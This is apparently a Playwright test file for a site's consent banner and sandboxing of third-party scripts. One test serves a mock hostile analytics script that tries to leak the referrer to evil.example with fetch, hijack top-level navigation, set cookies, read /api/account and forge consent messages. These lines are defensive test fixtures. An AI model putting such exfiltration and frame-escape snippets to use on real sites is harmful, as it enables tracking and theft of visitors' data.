import type { Page } from '@playwright/test';
import { type OwnSite, startOwnSite } from '../support/own-site.ts';
import { expect, test, untilLive } from '../support/test.ts';

test.use({ savesData: false });

// A site with configured third parties. Their hosts do not exist: the tests answer for them, correctly or not.
let site: OwnSite;
test.describe.configure({ mode: 'serial' });
test.beforeAll(async () => {
  site = await startOwnSite({
    ANALYTICS_URL: 'https://stats.example/s.js',
    RECORDING_URL: 'https://replay.example/r.js',
    CHAT_URL: 'https://chat.example/w.js',
    REVIEW_URL: 'https://reviews.example/safar',
  });
});
test.afterAll(async () => site?.stop());

const COUNTER = `
  const tell = (heard) => fetch('https://stats.example/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify(heard) });
  window.dataLayer.forEach(tell);
  window.dataLayer.push = tell;`;

async function answerFor(page: Page, host: string, script: string) {
  const asked: { readonly url: string; readonly body: string | null; readonly referer: string | undefined }[] = [];
  await page.route(`https://${host}/**`, async (route) => {
    const request = route.request();
    asked.push({ url: request.url(), body: request.postData(), referer: request.headers().referer });
    await route.fulfill({ contentType: 'text/javascript', body: request.method() === 'POST' ? '' : script });
  });
  return asked;
}

function foreignRequests(page: Page): string[] {
  const asked: string[] = [];
  page.on('request', (request) => {
    if (/^https?:/.test(request.url()) && !request.url().startsWith(site.url)) asked.push(request.url());
  });
  return asked;
}

const visitOwn = async (page: Page, path: string) => {
  await page.goto(site.url + path);
  await page.locator('body').press('Shift');
  await untilLive(page);
};
/** Footer links that are covered by something when they get the focus. */
const coveredLinks = (page: Page) =>
  page.locator('footer a').evaluateAll((links) =>
    links.flatMap((link) => {
      (link as HTMLElement).focus();
      const { left, top, height } = link.getBoundingClientRect();
      return link.contains(document.elementFromPoint(left + 2, top + height / 2)) ? [] : [link.textContent];
    }),
  );

/** The browser reports errors of a frame in the console of its page; our own code may report none. */
function refused(complaints: string[]): void {
  expect(complaints.filter((text) => /hydration|Minified React|\/assets\//.test(text))).toEqual([]);
  complaints.splice(0);
}
const question = (page: Page) => page.getByRole('region', { name: 'May others learn of your visit?' });

test('nobody learns anything before a yes; a no is remembered, and can be changed for one of them', async ({
  page,
}) => {
  const foreign = foreignRequests(page);
  const stats = await answerFor(page, 'stats.example', COUNTER);
  await visitOwn(page, '/');
  await expect(question(page)).toContainText('replay.example');
  await expect(page.getByRole('link', { name: 'Reviews: 5/5 at reviews.example' })).toBeVisible();
  await page.setViewportSize({ width: 390, height: 844 });
  expect(await coveredLinks(page)).toEqual([]);
  await page.getByRole('button', { name: 'Refuse' }).click();
  await expect(question(page)).toBeHidden();
  await visitOwn(page, '/destinations');
  await expect(question(page)).toBeHidden();
  expect(foreign).toEqual([]);
  await expect(page.locator('iframe')).toHaveCount(0);

  await visitOwn(page, '/privacy');
  await page.getByRole('checkbox', { name: /stats\.example/ }).check();
  await page.getByRole('button', { name: 'Keep my choice' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Your choice counts from now on' })).toBeVisible();
  await expect
    .poll(() => stats.map(({ body }) => body).filter(Boolean))
    .toContain('{"event":"page","route":"/privacy"}');
  expect(foreign.every((url) => url.startsWith('https://stats.example/'))).toBe(true);
});

test('who agreed is told the kinds of pages, and nothing of what stands in an address', async ({ page }) => {
  const stats = await answerFor(page, 'stats.example', COUNTER);
  await answerFor(page, 'replay.example', '');
  await visitOwn(page, '/');
  await page.getByRole('button', { name: 'Agree', exact: true }).click();
  await expect.poll(() => stats.length).toBeGreaterThan(1);
  await page.getByRole('contentinfo').getByRole('link', { name: 'Find a booking' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Find your booking');
  await expect.poll(() => stats.at(-1)?.body).toBe('{"event":"page","route":"/find-booking"}');
  // Each navigation inside the site sends the kind of page, even when the URL has a parameter.
  await page.getByRole('contentinfo').getByRole('link', { name: 'Blog', exact: true }).click();
  await expect.poll(() => stats.at(-1)?.body).toBe('{"event":"page","route":"/blog"}');
  await page.getByRole('main').locator('a[href^="/blog/"]').first().click();
  await expect(page).toHaveURL(/\/blog\/[a-z-]+$/);
  await expect.poll(() => stats.at(-1)?.body).toBe('{"event":"page","route":"/blog/{slug}"}');
  await page.goto(`${site.url}/isfahan?from=somebody%40example.org`);
  await page.locator('body').press('Shift');
  await expect.poll(() => stats.at(-1)?.body).toBe('{"event":"page","route":"/{place}/{part}"}');
  expect(stats.map(({ referer }) => referer ?? '')).toEqual(stats.map(() => ''));
});

test('one that is hostile reaches nothing: not the page, not its address, not our cookies, no other host', async ({
  page,
  complaints,
}) => {
  const stats: string[] = [];
  const evil: string[] = [];
  page.on('request', (request) => stats.push(request.url()));
  // Requests blocked by the policy do not get here.
  await page.route('https://evil.example/**', async (route) => {
    evil.push(route.request().url());
    await route.fulfill({ body: '' });
  });
  await answerFor(page, 'replay.example', 'this is no script');
  await answerFor(
    page,
    'stats.example',
    `const tries = [
      () => { parent.document.title = 'taken'; },
      () => { top.location.href = 'https://evil.example/'; },
      () => { parent.location.href = 'https://evil.example/'; },
      () => localStorage.setItem('x', '1'),
      () => { document.cookie = 'x=1'; },
      () => open('https://evil.example/'),
      () => alert('taken'),
      () => fetch('https://evil.example/?' + document.referrer),
      () => { new Image().src = 'https://evil.example/p.gif'; },
      () => fetch('/api/account'),
    ];
    for (const one of tries) { try { one(); } catch {} }
    for (let n = 0; n < 1000; n++) parent.postMessage({ type: 'consent.give', agreed: ['chat'] }, '*');
    throw new Error('garbage');`,
  );
  await visitOwn(page, '/');
  const title = await page.title();
  await page.getByRole('button', { name: 'Agree', exact: true }).click();
  await expect.poll(() => stats).toContain('https://stats.example/s.js');
  // The last of its attempts.
  await expect.poll(() => complaints.join('\n')).toContain('garbage');
  await page.getByRole('contentinfo').getByRole('link', { name: 'Find a booking' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Find your booking');
  await page.goBack();
  await expect(page).toHaveTitle(title);
  expect(evil).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  refused(complaints);
});

test('one that fails and one that hangs are taken away, and the page works meanwhile', async ({ page, complaints }) => {
  await page.route('https://stats.example/**', (route) => route.abort());
  await page.route('https://replay.example/**', () => {}); // never answered
  await visitOwn(page, '/');
  await page.getByRole('button', { name: 'Agree', exact: true }).click();
  await expect(page.locator('iframe[title="Frame of replay.example"]')).toHaveCount(1);
  await expect(page.locator('iframe[title="Frame of stats.example"]')).toHaveCount(0);
  await page.getByRole('contentinfo').getByRole('link', { name: 'Find a booking' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Find your booking');
  await expect(page.locator('iframe')).toHaveCount(0);
  refused(complaints);
});

test('a chat comes when it is opened; one that does not answer leads to us', async ({ page }) => {
  const chat = await answerFor(page, 'chat.example', "document.body.append('How can we help?')");
  await visitOwn(page, '/');
  await page.getByRole('button', { name: 'Refuse' }).click();
  await page.getByRole('link', { name: 'Help' }).first().click();
  const open = page.getByRole('button', { name: 'Open the chat of chat.example' });
  await expect(open).toBeVisible();
  expect(chat).toEqual([]);
  await open.click();
  await expect(page.frameLocator('iframe[title="Frame of chat.example"]').getByText('How can we help?')).toBeVisible();

  await page.getByRole('button', { name: 'Close' }).click();
  await page.unroute('https://chat.example/**');
  await page.route('https://chat.example/**', (route) => route.fulfill({ status: 500, body: 'no' }));
  await page.getByRole('link', { name: 'Help' }).first().click();
  await open.click();
  await expect(page.getByRole('alert')).toContainText('The chat does not answer.');
  await page.getByRole('dialog').getByRole('link', { name: 'Write to us' }).last().click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(/Write to us/);
});
